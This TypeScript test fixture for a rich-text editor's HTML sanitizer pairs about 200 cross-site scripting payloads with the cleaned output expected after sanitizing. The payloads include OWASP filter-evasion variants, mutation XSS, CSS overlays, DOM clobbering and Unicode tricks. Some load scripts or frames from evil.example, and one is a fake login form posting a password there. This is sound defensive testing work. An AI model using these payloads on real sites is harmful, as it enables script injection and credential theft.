/**
 * Texts that try to do harm, and their stored forms (D-119). server/lib/html.test.ts compares the two, and
 * e2e/editor.spec.ts shows all of them in a browser, where nothing may run or leave its place. The second part follows
 * the filter evasion list of OWASP. The third has HTML that browsers and parsers interpret differently.
 */
const A = 'rel="noopener nofollow ugc"'

export const HARMFUL_TEXTS: [name: string, sent: string, stored: string][] = [
  ['a script', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
  ['a script in capitals', '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>a', 'a'],
  ['a script that is not closed', '<p>a</p><script>alert(1)', '<p>a</p>'],
  ['a script within a script', '<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
  ['a handler', '<p onclick="alert(1)">a</p>', '<p>a</p>'],
  ['a handler without quotes', '<b/onmouseover=alert(1)>a</b>', '<b>a</b>'],
  ['a handler of a picture', '<img src="/uploads/a.png" onerror="alert(1)">', '<img src="/uploads/a.png">'],
  ['a picture of nothing', '<img src=x:y onerror=alert(1)>', ''],
  ['a handler behind a slash', '<img/src="/uploads/a.png"/onload=alert(1)>', '<img src="/uploads/a.png">'],
  [
    'a quote in an attribute',
    '<img src="/uploads/a.png" alt=\'"onerror="alert(1)\'>',
    '<img src="/uploads/a.png" alt="&quot;onerror=&quot;alert(1)">'
  ],
  [
    'an end in an attribute',
    '<img src="/uploads/a.png" alt="><script>alert(1)</script>">',
    '<img src="/uploads/a.png" alt="&gt;&lt;script&gt;alert(1)&lt;/script&gt;">'
  ],
  ['a link to a script', '<a href="javascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its capitals', '<a href="JaVaScRiPt:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its entities', '<a href="&#106;avascript&colon;alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its tabs and lines', '<a href="java\tscr\nipt:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its control signs', '<a href="\u0001javascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its spaces', '<a href="  javascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['a link to data', '<a href="data:text/html,<script>alert(1)</script>">a</a>', `<a ${A}>a</a>`],
  ['a link to VBScript', '<a href="vbscript:msgbox(1)">a</a>', `<a ${A}>a</a>`],
  ['a link to a file', '<a href="file:///etc/passwd">a</a>', `<a ${A}>a</a>`],
  ['a link of any scheme', '<a href="//evil.example">a</a>', `<a ${A}>a</a>`],
  [
    'a link with access to our window',
    '<a href="https://e.org" rel="opener" target="_parent">a</a>',
    `<a href="https://e.org" ${A}>a</a>`
  ],
  ['a frame', '<iframe src="https://evil.example"></iframe>a', 'a'],
  ['a frame of its own', '<iframe srcdoc="<script>alert(1)</script>"></iframe>a', 'a'],
  ['an object', '<object data="x.swf"><embed src="x.swf"></object>a', 'a'],
  ['a form', '<form action="https://evil.example"><input name="password"><button>Log in</button></form>', 'Log in'],
  ['a base for every link', '<base href="https://evil.example/">a', 'a'],
  ['a jump', '<meta http-equiv="refresh" content="0;url=https://evil.example">a', 'a'],
  ['a style sheet', '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">a', 'a'],
  ['a drawing with a handler', '<svg onload="alert(1)"><circle r="1"/></svg>a', 'a'],
  ['a drawing with a script', '<svg><script>alert(1)</script></svg>a', 'a'],
  ['a drawing with a link', '<svg><a xlink:href="javascript:alert(1)">a</a></svg>', `<a ${A}>a</a>`],
  ['a formula', '<math><maction xlink:href="javascript:alert(1)">a</maction></math>', 'a'],
  ['a mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<table></table>'],
  [
    'content for pages without scripts',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript>',
    '<p>a</p>'
  ],
  ['a comment', '<!--<img src="--><img src=x: onerror=alert(1)>-->a', '--&gt;a'],
  ['a comment of an old browser', '<!--[if IE]><script>alert(1)</script><![endif]-->a', 'a'],
  ['a template', '<template><script>alert(1)</script></template>a', 'a'],
  ['a text field', '<textarea><img src=x onerror=alert(1)></textarea>a', 'a'],
  ['a video', '<video src="/uploads/a.mp4" onloadstart="alert(1)" autoplay></video>a', 'a'],
  [
    'a picture of data',
    '<figure class="image"><img src="data:image/svg+xml;base64,PHN2Zz4="></figure>a',
    '<figure class="image"></figure>a'
  ],
  ['a picture by a script', '<img src="javascript:alert(1)">a', 'a'],
  [
    'a picture in evil sizes',
    '<img src="/uploads/a.png" srcset="javascript:alert(1) 1x">',
    '<img src="/uploads/a.png">'
  ],
  ['a style that covers the page', '<p style="position:fixed;inset:0">a</p>', '<p>a</p>'],
  [
    'a picture that covers the page',
    '<img src="/uploads/a.png" style="position:fixed;top:0;width:100%">',
    '<img src="/uploads/a.png" style="width:100%;">'
  ],
  [
    'a style that loads from another site',
    '<figure class="image" style="background:url(https://evil.example)"></figure>',
    '<figure class="image"></figure>'
  ],
  [
    'a style in disguise',
    '<img src="/uploads/a.png" style="width:50%;/**/p\\osition:fixed">',
    '<img src="/uploads/a.png" style="width:50%;">'
  ],
  ['a very wide table', '<figure class="table" style="width:9999px"></figure>', '<figure class="table"></figure>'],
  ['a picture wider than its place', '<img src="/uploads/a.png" style="width:101%">', '<img src="/uploads/a.png">'],
  [
    'a very tall picture',
    '<img src="/uploads/a.png" style="aspect-ratio:1/99999;width:100%">',
    '<img src="/uploads/a.png" style="width:100%;">'
  ],
  ['a shape of nothing', '<img src="/uploads/a.png" style="aspect-ratio:0/0">', '<img src="/uploads/a.png">'],
  ['a size as long as a tower', '<img src="/uploads/a.png" width="10" height="99999">', '<img src="/uploads/a.png">'],
  ['an old expression', '<img src="/uploads/a.png" style="width:expression(alert(1))">', '<img src="/uploads/a.png">'],
  [
    'our own classes',
    '<figure class="image mantine-Modal-root saveBar">a</figure>',
    '<figure class="image">a</figure>'
  ],
  [
    'a class on code',
    '<pre><code class="language-css fixed">a</code></pre>',
    '<pre><code class="language-css">a</code></pre>'
  ],
  ['a name that ours listen to', '<a id="main" name="root" href="/a">a</a>', '<a href="/a">a</a>'],
  ['data for our scripts', '<p data-modal="open" contenteditable tabindex="0" role="alert">a</p>', '<p>a</p>'],
  ['a null byte', '<scr\u0000ipt>alert(1)</scr\u0000ipt>a', 'alert(1)a'],
  ['broken nesting', '<b><p>a</b></p></div>', '<b><p>a</p></b><p></p>'],
  ['a tag that never ends', 'a<img src="/uploads/a.png" onerror="alert(1)', 'a'],
  // Filter evasion.
  [
    'a polyglot of many places',
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
    'javascript:/*--&gt;'
  ],
  ['a link without quotes', '<a href=javascript:alert(1)>a</a>', `<a ${A}>a</a>`],
  [
    'a link in grave accents',
    '<a href=`javascript:alert("a, \'b\'")`>a</a>',
    '<a href="`javascript:alert(&quot;a," rel="noopener nofollow ugc">a</a>'
  ],
  ['a picture in grave accents', '<img src=`javascript:alert("a, \'b\'")`>a', 'a'],
  ['a link that is broken', '<a onmouseover="alert(1)"\\>a</a\\>', `<a ${A}>a</a>`],
  ['a picture whose quotes are broken', '<img """><script>alert(1)</script>"\\>', '"\\&gt;'],
  ['characters by their number', '<img src=javascript:alert(String.fromCharCode(88,83,83))>a', 'a'],
  ['a picture with a handler alone', '<img onmouseover="alert(1)">', ''],
  [
    'a picture that fails, its handler in entities',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
    ''
  ],
  [
    'decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    `<a ${A}>a</a>`
  ],
  [
    'decimal entities without ends',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>',
    `<a ${A}>a</a>`
  ],
  [
    'hexadecimal entities without ends',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)">a</a>',
    `<a href="javascriptΪlert(1)" ${A}>a</a>`
  ],
  ['a tab in a link', '<a href="jav&#x09;ascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['a line in a link', '<a href="jav&#x0A;ascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['a return in a link', '<a href="jav&#x0D;ascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['a tab by its name in a link', '<a href="java&Tab;script&NewLine;:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['control signs before a link', '<a href=" &#14;  javascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['a soft hyphen in a link', '<a href="java&shy;script:alert(1)">a</a>', `<a href="java­script:alert(1)" ${A}>a</a>`],
  ['a null in a link', '<a href="java\u0000script:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['a handler behind other signs', '<p onclick!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>a</p>', '<p>a</p>'],
  ['a script with something behind its name', '<script/XSS src="https://evil.example/x.js"></script>a', 'a'],
  ['a bracket too many', '<<script>alert(1);//\\<</script>a', '&lt;a'],
  ['a script without an end tag', '<script src=https://evil.example/x.js?< B >', ''],
  ['a script without a protocol', '<script src=//evil.example/.j>', ''],
  ['half a picture', '<img src="`<javascript:alert(1)>`"', ''],
  ['half a frame', '<iframe src=https://evil.example/x.html <', ''],
  ['the end of a title', '</title><script>alert(1)</script>a', 'a'],
  ['a field that is a picture', '<input type="image" src="javascript:alert(1)" onfocus=alert(1) autofocus>a', 'a'],
  ['a body with a background', '<body background="javascript:alert(1)" onload=alert(1)>a', 'a'],
  ['a picture of an old attribute', '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">a', 'a'],
  [
    'a list of pictures',
    '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>a</ul>',
    '<ul><li>a</li></ul>'
  ],
  ['VBScript in a picture', `<img src='vbscript:msgbox("a")'>a`, 'a'],
  ['Livescript', '<img src="livescript:alert(1)">a', 'a'],
  ['events of a drawing', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>a', 'a'],
  [
    'an SVG that animates a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>a</text></a></svg>',
    `<a ${A}>a</a>`
  ],
  ['a drawing in a use', '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>a', 'a'],
  [
    'HTML in a drawing',
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>a',
    'a'
  ],
  [
    'ES6 in a handler',
    'Set.constructor`alert\\x281\\x29`<p onclick=Set.constructor`1`>a</p>',
    'Set.constructor`alert\\x281\\x29`<p>a</p>'
  ],
  ['a background sound', '<bgsound src="javascript:alert(1)">a', 'a'],
  ['a break that is a script', '<br size="&{alert(1)}">a', '<br>a'],
  ['a style sheet by a link', '<link rel="stylesheet" href="javascript:alert(1)">a', 'a'],
  ['an import of a style', "<style>@import'https://evil.example/x.css';</style>a", 'a'],
  ['a style in a meta', '<meta http-equiv="Link" content="<https://evil.example/x.css>; REL=stylesheet">a', 'a'],
  ['a binding', '<style>body{-moz-binding:url("https://evil.example/x.xml#x")}</style>a', 'a'],
  ['broken words in a style', '<style>@im\\port\'\\ja\\vasc\\ript:alert("1")\';</style>a', 'a'],
  [
    'a comment within a style',
    '<img src="/uploads/a.png" style="xss:expr/*a*/ession(alert(1));width:50%">',
    '<img src="/uploads/a.png" style="width:50%;">'
  ],
  ['an anonymous element with a style', '<xss style="xss:expression(alert(1))">a</xss>', 'a'],
  [
    'a style with a class',
    '<style>.xss{background-image:url("javascript:alert(1)")}</style><a class=xss></a>',
    `<a ${A}></a>`
  ],
  ['a local file of bindings', '<xss style="behavior:url(xss.htc)">a</xss>', 'a'],
  ['an encoding of 8 bits', '¼script¾alert(¢1¢)¼/script¾', '¼script¾alert(¢1¢)¼/script¾'],
  ['an encoding of 7 bits', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  [
    'a meta with data',
    '<meta http-equiv="refresh" content="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">a',
    'a'
  ],
  ['frames', '<frameset><frame src="javascript:alert(1)"></frameset>a', 'a'],
  [
    'a table with a background',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">a</td></tr></table>',
    '<table><tr><td>a</td></tr></table>'
  ],
  ['a box with a background', '<div style="background-image:url(javascript:alert(1))">a</div>', 'a'],
  ['an object of a type', '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>a', 'a'],
  ['an applet', '<applet code="x.class" codebase="https://evil.example/"></applet>a', 'a'],
  [
    'XML islands',
    '<xml id="x"><i><b>&lt;img src="javas<!-- -->cript:alert(1)"&gt;</b></i></xml><span datasrc="#x" datafld="b" dataformatas="html"></span>',
    '<i><b>&lt;img src="javascript:alert(1)"&gt;</b></i>'
  ],
  [
    'a namespace',
    '<html xmlns:xss><?import namespace="xss" implementation="https://evil.example/x.htc"><xss:xss>a</xss:xss></html>',
    'a'
  ],
  ['PHP', "<? echo('<scr)'; echo('ipt>alert(1)</script>'); ?>a", "alert(1)'); ?&gt;a"],
  ['a server’s include', `<!--#exec cmd="/bin/echo '<script src=https://evil.example/x.js></script>'"-->a`, 'a'],
  ['a cookie by a meta', '<meta http-equiv="Set-Cookie" content="a=<script>alert(1)</script>">a', 'a'],
  ['quotes around an end', '<script a=">" src="https://evil.example/x.js"></script>a', 'a'],
  [
    'a script in two pieces',
    '<script>document.write("<scri");</script>pt src="https://evil.example/x.js"></script>',
    'pt src="https://evil.example/x.js"&gt;'
  ],
  ['a slash instead of a space', '<svg/onload=alert(1)//', ''],
  ['a form feed instead of a space', '<img\fsrc="/uploads/a.png"\fonerror=alert(1)>', '<img src="/uploads/a.png">'],
  ['details that open', '<details open ontoggle=alert(1)>a</details>', 'a'],
  ['a marquee', '<marquee onstart=alert(1)>a</marquee>', 'a'],
  ['a sound', '<audio src onloadstart=alert(1)>a', 'a'],
  ['a source that fails', '<video><source onerror=alert(1)></video>a', 'a'],
  [
    'a picture of choices',
    '<picture><source srcset="/uploads/b.png" onerror=alert(1)><img src="/uploads/a.png" onload=alert(1)></picture>',
    '<img src="/uploads/a.png">'
  ],
  [
    'a button that submits elsewhere',
    '<form id=x></form><button form=x formaction=javascript:alert(1)>a</button>',
    'a'
  ],
  [
    'an area of a map',
    '<map name=m><area href=javascript:alert(1) shape=rect coords=0,0,999,999></map><img src="/uploads/a.png" usemap=#m>',
    '<img src="/uploads/a.png">'
  ],
  ['a portal', '<portal src="https://evil.example"></portal>a', 'a'],
  ['a dialog that is open', '<dialog open>a</dialog>', 'a'],
  ['something that pops over', '<p popover id=x>a</p><button popovertarget=x>b</button>', '<p>a</p>b'],
  ['an animation with a handler', '<p style="animation:x" onanimationstart=alert(1)>a</p>', '<p>a</p>'],
  ['a transition with a handler', '<p style="transition:all 1s" ontransitionend=alert(1)>a</p>', '<p>a</p>'],
  ['a prefix of an address', '<a href="view-source:javascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['a blob', '<a href="blob:https://e.org/1">a</a>', `<a ${A}>a</a>`],
  ['pings', '<a href="/a" ping="https://evil.example" download>a</a>', '<a href="/a">a</a>'],
  // Mutation.
  ['a mutation by a drawing’s style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<p></p>'],
  ['a mutation by a drawing’s text', '<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>a', 'a'],
  [
    'a mutation by nested forms',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    ''
  ],
  [
    'a mutation by a formula’s text',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<table></table>'
  ],
  [
    'a mutation by an annotation',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>a',
    'a'
  ],
  ['a mutation by a comment in a formula', '<math><!--</math><img src=x onerror=alert(1)>-->a', 'a'],
  [
    'a mutation by CDATA',
    '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>a',
    '&gt;&lt;img src=x onerror=alert(1)&gt;a'
  ],
  ['a mutation by CDATA outside of a drawing', '<p><![CDATA[<img src=x onerror=alert(1)>]]></p>', '<p></p>'],
  ['a mutation by noscript', '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>a', 'a'],
  ['a mutation by a template', '<template><style></template><img src=x onerror=alert(1)></style></template>a', 'a'],
  ['a mutation by a select', '<select><style></select><img src=x onerror=alert(1)></style>a', 'a'],
  ['a mutation by a text field', '<svg><textarea></svg><img src=x onerror=alert(1)></textarea>a', 'a'],
  ['a mutation by a title', '<svg><title><style></title><img src=x onerror=alert(1)></style></svg>a', 'a'],
  [
    'a mutation by an old example',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>a',
    '&lt;img src=x onerror=alert(1)&gt;a'
  ],
  ['a mutation by xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">a</xmp>', '"&gt;a'],
  [
    'a mutation by plain text',
    '<p>a</p><plaintext><img src=x onerror=alert(1)>',
    '<p>a</p>&lt;img src=x onerror=alert(1)&gt;'
  ],
  [
    'a mutation by noframes and noembed',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes></noframes>a',
    '&lt;p title=""&gt;a'
  ],
  ['a mutation by a frame’s text', '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>a', '"&gt;a'],
  [
    'a mutation by grave accents',
    '<img src="/uploads/a.png" alt="``onerror=alert(1)">',
    '<img src="/uploads/a.png" alt="``onerror=alert(1)">'
  ],
  [
    'a mutation by an empty line in code',
    '<pre>\n\n<img src="/uploads/a.png" onerror=alert(1)></pre>',
    '<pre>\n\n<img src="/uploads/a.png"></pre>'
  ],
  [
    'a mutation by a table',
    '<table><p><a href="javascript:alert(1)"><table><style><img src=x onerror=alert(1)>',
    `<table><p><a ${A}><table></table></a></p></table>`
  ],
  [
    'a mutation by a caption',
    '<table><caption><svg><style></caption><img src=x onerror=alert(1)></style></table>a',
    '<table></table>a'
  ],
  [
    'a mutation by deep nesting',
    `${'<b>'.repeat(60)}<svg><style><img src=x onerror=alert(1)></style></svg>`,
    `${'<b>'.repeat(50)}${'</b>'.repeat(50)}`
  ],
  ['a mutation by the word is', '<p is="x" slot=y part=z>a</p>', '<p>a</p>'],
  ['a shadow of its own', '<p><template shadowrootmode=open><script>alert(1)</script></template>a</p>', '<p>a</p>'],
  // Imitations of the product's interface.
  [
    'a style that lies over others',
    '<figure class="image" style="position:absolute;z-index:9999;top:-100px;margin:-500px"><img src="/uploads/a.png" style="transform:scale(99);width:100%"></figure>',
    '<figure class="image"><img src="/uploads/a.png" style="width:100%;"></figure>'
  ],
  [
    'a style by its variables',
    '<figure class="image" style="--mantine-color-text:red;width:50%"></figure>',
    '<figure class="image" style="width:50%;"></figure>'
  ],
  [
    'a style of an unknown unit',
    '<figure class="image" style="width:calc(100% * 99)"></figure>',
    '<figure class="image"></figure>'
  ],
  [
    'an important style',
    '<figure class="image" style="width:50%!important"></figure>',
    '<figure class="image"></figure>'
  ],
  [
    'a class of the editor’s interface',
    '<figure class="ck ck-balloon-panel image">a</figure>',
    '<figure class="image">a</figure>'
  ],
  [
    'attributes of the theme',
    '<p data-mantine-color-scheme="dark" lang="xx" dir="rtl" hidden inert>a</p>',
    '<p lang="xx" dir="rtl">a</p>'
  ],
  ['a region of the page', '<main aria-live="assertive"><nav><header>a</header></nav></main>', 'a'],
  [
    'a name of a global',
    '<img src="/uploads/a.png" name="getElementById" id="embedded">',
    '<img src="/uploads/a.png">'
  ],
  ['names in names', '<a id=config></a><a id=config name=url href="/x">a</a>', `<a ${A}></a><a href="/x">a</a>`],
  ['forms in forms', '<form id=a><div></form><form id=b><input name=attributes><output name=innerHTML></form>a', 'a'],
  [
    'a style that loads',
    '<figure class="image" style="width:50%;background:url(https://evil.example)"><img src="/uploads/a.png"></figure>',
    '<figure class="image" style="width:50%;"><img src="/uploads/a.png"></figure>'
  ],
  [
    'a style in other letters',
    '<figure class="image" style="wid\\74h:99%;/**/width:9%"></figure>',
    '<figure class="image"></figure>'
  ],
  // Loads from other sites.
  ['a picture of the same protocol', '<img src="/\t/evil.example/a.png"><img src="\\\\evil.example/a.png">a', 'a'],
  ['a picture of a blob', '<img src="blob:https://e.org/1"><img src="filesystem:https://e.org/1">a', 'a'],
  ['a picture of data', '<img src="data:image/svg+xml,<svg onload=alert(1)>">a', 'a'],
  [
    'sizes of elsewhere',
    '<img src="/uploads/a.png" srcset="/uploads/a.png 1x, https://evil.example/a.png 2x">',
    '<img src="/uploads/a.png">'
  ],
  [
    'sizes of the same protocol',
    '<img src="/uploads/a.png" srcset="/uploads/a.png 1x, //evil.example/a.png 2x">',
    '<img src="/uploads/a.png">'
  ],
  [
    'sizes with other slashes',
    '<img src="/uploads/a.png" srcset="/\\evil.example/a.png 2x">',
    '<img src="/uploads/a.png">'
  ],
  ['sizes behind a tab', '<img src="/uploads/a.png" srcset="\t//evil.example/a.png 2x">', '<img src="/uploads/a.png">'],
  [
    'sizes of data',
    '<img src="/uploads/a.png" srcset="data:image/svg+xml,<svg/onload=alert(1)> 2x">',
    '<img src="/uploads/a.png">'
  ],
  // Characters that look like others or are interpreted as others.
  ['signs of full width', '＜script＞alert(1)＜/script＞', '＜script＞alert(1)＜/script＞'],
  ['a long s', '<ſcript>alert(1)</ſcript>', '&lt;ſcript&gt;alert(1)'],
  ['a sign for kelvin', '<\u212aeygen autofocus onfocus=alert(1)>', '&lt;\u212aeygen autofocus onfocus=alert(1)&gt;'],
  ['a link in full width', '<a href="ｊavascript:alert(1)">a</a>', `<a href="ｊavascript:alert(1)" ${A}>a</a>`],
  ['a link with a long s', '<a href="javaſcript:alert(1)">a</a>', `<a href="javaſcript:alert(1)" ${A}>a</a>`],
  [
    'a link behind no space',
    '<a href="\u200bjavascript:alert(1)">a</a>',
    `<a href="\u200bjavascript:alert(1)" ${A}>a</a>`
  ],
  [
    'a link behind a line',
    '<a href="\u2028javascript:alert(1)">a</a>',
    `<a href="\u2028javascript:alert(1)" ${A}>a</a>`
  ],
  [
    'a link behind a mark',
    '<a href="\ufeffjavascript:alert(1)">a</a>',
    `<a href="\ufeffjavascript:alert(1)" ${A}>a</a>`
  ],
  ['a line that reads backwards', '<p>\u202egnp.exe\u2066</p>', '<p>\u202egnp.exe\u2066</p>'],
  [`a tower of marks`, `<p>a${'\u0301'.repeat(200)}</p>`, `<p>a${'\u0301'.repeat(200)}</p>`],
  // More mutations, and elements of newer browsers.
  [
    'a mutation by a style’s comment',
    '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>',
    '<p></p>'
  ],
  [
    'a mutation by a formula in a drawing',
    '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=x>">',
    '"&gt;'
  ],
  ['a mutation by a title and CDATA', '<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>a', 'a'],
  [
    'a mutation by HTML in a drawing',
    '<svg><foreignObject><style></foreignObject><img src=x onerror=alert(1)></style></svg>a',
    'a'
  ],
  [
    'a mutation by an attribute in noscript',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</noscript>',
    '<p>a</p>'
  ],
  [
    'a mutation by comments in a script',
    '<script>//<!--<script></script>--></script><img src=x onerror=alert(1)>',
    '--&gt;'
  ],
  ['an instruction', '<?xml version="1.0"?><script>alert(1)</script>a', 'a'],
  ['a drawing that is set', '<svg><set attributeName=href to=javascript:alert(1)></svg>a', 'a'],
  [
    'a select that shows its option again',
    '<select><button><selectedcontent></button><option><img src=x onerror=alert(1)></option></select>a',
    'a'
  ],
  ['a button that commands', '<button command=show-modal commandfor=x>a</button><dialog id=x>b</dialog>', 'ab'],
  [
    'a hidden field with an event for its visibility',
    '<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>a',
    'a'
  ],
  ['a frame with a fence', '<fencedframe src="https://evil.example"></fencedframe>a', 'a'],
  ['a link that opens', '<a href="/a" target="_top" rel="opener">a</a>', '<a href="/a">a</a>'],
  [
    'two languages of a code',
    '<code class="language-x\nck language-y">a</code>',
    '<code class="language-x language-y">a</code>'
  ]
]
